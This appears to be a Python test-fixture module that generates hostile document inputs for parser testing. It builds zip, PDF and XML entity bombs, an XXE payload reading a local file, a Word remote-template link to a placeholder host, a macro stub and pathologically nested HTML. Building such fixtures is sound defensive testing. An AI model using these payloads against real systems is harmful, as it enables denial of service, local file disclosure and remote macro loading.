"""Files made to hurt whoever opens them, and files that are merely broken."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def package(**parts: str | bytes) -> bytes:
    """A .docx of given parts; `__` in a name stands for `/`, a leading `rels` for _rels."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("-", "."), content)
    return target.getvalue()


def word(body: str, prolog: str = "") -> bytes:
    return package(**{"word__document-xml": f'<?xml version="1.0"?>{prolog}<w:document {W}><w:body>{body}</w:body></w:document>'})


def zip_bomb() -> bytes:
    """200 MB of nothing in 200 kB."""
    return package(**{"word__document-xml": b"<w:document>" + b" " * (200 * 1024 * 1024)})


def lying_bomb() -> bytes:
    """A part that says it is small and isn't."""
    data = bytearray(package(**{"word__document-xml": b" " * (150 * 1024 * 1024)}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x05\x06"))
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def entity_bomb() -> bytes:
    levels = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
    return word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY a0 "lol">{levels}]>')


def outside_entity(path: Path) -> bytes:
    return word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{path}">]>')


def remote_template() -> bytes:
    link = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/t.dotm" TargetMode="External"/>'
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
    return package(**{"word__document-xml": f"<w:document {W}><w:body/></w:document>", "word___rels__settings-xml-rels": rels})


def macros() -> bytes:
    return package(**{"word__document-xml": f"<w:document {W}><w:body/></w:document>".encode(), "word__vbaProject-bin": b"\x00"})


def deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 200_000 + b"x"


def deep_tables() -> bytes:
    return b"<html><body>" + b"<table><tr><td>" * 5_000 + b"x"


def wide_spans() -> bytes:
    return b"<html><body><table>" + b"<tr><td colspan=99999999 rowspan=99999999>x</td></tr>" * 3_000 + b"</table>"


def pdf(content: bytes, extra: str = "") -> bytes:
    """A PDF of one page with a content stream."""
    packed = zlib.compress(content)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + extra.encode() + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for n, content_of in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, content_of)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def pdf_bomb() -> bytes:
    """A content stream of 400 MB of lines in 400 kB."""
    return pdf(b"0 0 m 9 9 l S\n" * (400 * 1024 * 1024 // 14))
